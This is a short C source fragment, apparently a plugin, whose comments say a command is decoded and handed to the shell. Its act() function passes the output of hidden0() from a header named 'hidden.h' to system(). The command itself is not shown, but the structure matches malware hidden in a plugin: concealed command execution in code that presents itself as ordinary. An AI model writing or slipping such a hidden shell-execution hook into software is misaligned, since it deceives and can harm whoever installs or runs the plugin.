/* A command is decoded and given to the shell. */
#include "plugin.h"
#include "hidden.h" /* 0: the command */
extern int system(const char *);
static int status;
static void act(char **env) { status = system(hidden0()); }
